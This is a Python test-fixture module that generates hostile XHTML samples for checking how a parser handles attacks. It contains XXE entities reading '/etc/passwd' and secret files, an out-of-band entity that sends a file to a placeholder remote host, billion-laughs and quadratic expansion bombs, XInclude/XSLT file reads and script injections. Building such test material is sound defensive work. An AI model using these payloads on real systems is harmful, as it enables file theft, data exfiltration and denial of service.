"""XHTML that asks its parser for files, for endless text, or for programs."""

from __future__ import annotations

from tests.hostile.sample import OUTSIDE, PROSE, REMOTE, Sample, bad_page, mark

PROLOG = '<?xml version="1.0" encoding="utf-8"?>\n'
SECRET = f"../{OUTSIDE}/secret.txt"


def samples():
    """Every sample of this kind."""
    yield from entities()
    yield from expansion()
    yield from includes()
    yield from broken()


def xhtml(name, doctype, middle, prolog=PROLOG):
    return (
        f'{prolog}{doctype}<html xmlns="http://www.w3.org/1999/xhtml" lang="vi"><head><title>Bài {name}</title></head>'
        f"<body><p>{mark(name, 'A')} {PROSE}</p>{middle}<p>{mark(name, 'Z')} {PROSE}</p></body></html>"
    )


def attack(name, why, doctype, middle="<p>&x;</p>", **given):
    return bad_page(name, why, content=xhtml(name, doctype, middle), **given)


def entities():
    for name, declaration, why in (
        ("xml-entity-file", f'<!ENTITY x SYSTEM "{SECRET}">', "an entity that is a file"),
        ("xml-entity-absolute", '<!ENTITY x SYSTEM "file:///etc/passwd">', "an entity that is a system file"),
        ("xml-entity-remote", f'<!ENTITY x SYSTEM "{REMOTE}/x">', "an entity elsewhere"),
        ("xml-entity-public", f'<!ENTITY x PUBLIC "-//W3C//ENTITIES//EN" "{SECRET}">', "a public entity"),
        ("xml-entity-device", '<!ENTITY x SYSTEM "file:///dev/zero">', "an entity without end"),
        ("xml-entity-parameter", f'<!ENTITY % p SYSTEM "../{OUTSIDE}/secret.xml">%p;', "a parameter entity"),
        ("xml-entity-remote-dtd", f'<!ENTITY % p SYSTEM "{REMOTE}/d.dtd">%p;', "a DTD elsewhere"),
        ("xml-entity-out-of-band", f'<!ENTITY % f SYSTEM "{SECRET}"><!ENTITY % e "<!ENTITY s SYSTEM \'{REMOTE}/?%f;\'>">%e;',
         "a file sent elsewhere"),
        ("xml-entity-markup", '<!ENTITY x "<script>alert(1)</script>">', "an entity that is a script"),
        ("xml-entity-unparsed", f'<!NOTATION n SYSTEM "{REMOTE}/n"><!ENTITY x SYSTEM "{SECRET}" NDATA n>', "unparsed"),
        ("xml-attribute-default", '<!ATTLIST p onclick CDATA "alert(1)" style CDATA "x:y">', "attributes by default"),
    ):  # fmt: skip
        yield attack(name, why, f"<!DOCTYPE html [{declaration}]>\n")
    name = "xml-doctype-external"
    yield attack(name, "a DTD in a file", f'<!DOCTYPE html SYSTEM "../{OUTSIDE}/secret.xml">')
    name = "xml-entity-in-attribute"
    yield attack(
        name, "an entity in an attribute", f'<!DOCTYPE html [<!ENTITY x SYSTEM "{SECRET}">]>', '<p title="&x;">&x;</p>'
    )


def expansion():
    laughs = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    yield attack("xml-billion-laughs", "entities of entities", f"<!DOCTYPE html [{laughs}]>", "<p>&a11;</p>")
    yield attack("xml-quadratic", "a long entity, often", f'<!DOCTYPE html [<!ENTITY a "{"A" * 100_000}">]>',
                 f"<p>{'&a;' * 20_000}</p>")  # fmt: skip
    yield attack(
        "xml-entity-loop",
        "entities of each other",
        '<!DOCTYPE html [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
        "<p>&a;</p>",
    )
    many = "".join(f'<!ENTITY e{n} "x">' for n in range(50_000))
    yield attack("xml-entities-many", "50,000 entities", f"<!DOCTYPE html [{many}]>", "<p>&e1;</p>")
    yield attack("xml-doctype-long", "a doctype of 4 MB", f"<!DOCTYPE html [<!-- {'x' * 4_000_000} -->]>", "<p>x</p>")
    yield attack("xml-doctype-open", "a doctype that never ends", "<!DOCTYPE html [<!ENTITY x 'y'> ", told=(), keep=(),
                 outcomes=())  # fmt: skip
    spaces = " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(5000))
    yield attack("xml-namespaces", "5,000 namespaces", "", f"<p {spaces}>x</p>")


def includes():
    name = "xml-include"
    middle = "".join(
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{href}" parse="text"/>'
        for href in (SECRET, "file:///etc/passwd", f"{REMOTE}/x")
    )
    yield attack(name, "XInclude", "", middle, keep=(mark(name, "A"),), told=(mark(name, "Z"),))
    name = "xml-stylesheet"
    prolog = (
        f'{PROLOG}<?xml-stylesheet type="text/xsl" href="{REMOTE}/x.xsl"?><?xml-stylesheet href="../{OUTSIDE}/secret.css"?>'
        '<?xml-stylesheet type="text/xsl" href="#s"?>'
    )
    yield bad_page(name, "a stylesheet that transforms", content=xhtml(name, "", "<p>x</p>", prolog))
    name = "xml-xslt"
    middle = f"""<xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">
<xsl:copy-of select="document('{SECRET}')"/></xsl:template></xsl:stylesheet>"""
    yield attack(name, "XSLT inside", "", middle, keep=(mark(name, "A"),), told=(mark(name, "Z"),))
    name = "xml-base"
    yield attack(name, "a base by XML", "", f'<div xml:base="{REMOTE}/"><img src="a.png"/></div>')


def broken():
    yield attack("xml-not-well-formed", "XHTML that is HTML", "", "<p>&nbsp;&eacute; a < b & c <br> <img src=x></p>")
    yield attack("xml-cdata", "CDATA in XHTML", "", "<p><![CDATA[<script>alert(1)</script>]]></p>")
    name = "xml-encoding-lies"
    content = xhtml(name, "", "<p>x</p>").replace("utf-8", "utf-16")
    yield bad_page(name, "an XML declaration that lies", content=content)
    name = "xml-version"
    content = xhtml(name, "", "<p>&#1;</p>").replace('"1.0"', '"1.1"')
    yield bad_page(name, "XML 1.1, which may hold controls", content=content, codes=("text-dropped",))
    name = "xml-prefixed"
    body = f"<x:p>{mark(name, 'A')} {PROSE}</x:p>"
    content = f'{PROLOG}<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:body>{body}</x:body></x:html>'
    yield Sample(name, "XHTML with a prefix", {"page.xhtml": content}, told=(mark(name, "A"),), outcomes=())
    name = "xml-svg-document"
    content = f'{PROLOG}<svg xmlns="http://www.w3.org/2000/svg"><text>{mark(name, "A")}</text></svg>'
    yield Sample(name, "a drawing named .xhtml", {"page.xhtml": content}, outcomes=("failed",), codes=("not-as-named",))
    name = "xml-canonical-forged"
    content = (
        f'<html xmlns="http://www.w3.org/1999/xhtml" lang="vi" xml:lang="vi"><head><title>T</title></head><body><article>'
        f'<header><h1>T</h1></header><p>{mark(name, "A")} {PROSE}</p><p><a href="javascript:alert(1)">x</a></p>'
        f'<figure><img src="{REMOTE}/x.png" width="1" height="1" alt="x"/></figure><script>alert(1)</script>'
        f'<p onclick="alert(2)">{mark(name, "Z")} {PROSE}</p></article></body></html>'
    )
    yield bad_page(name, "a canonical article that is none", content=content)
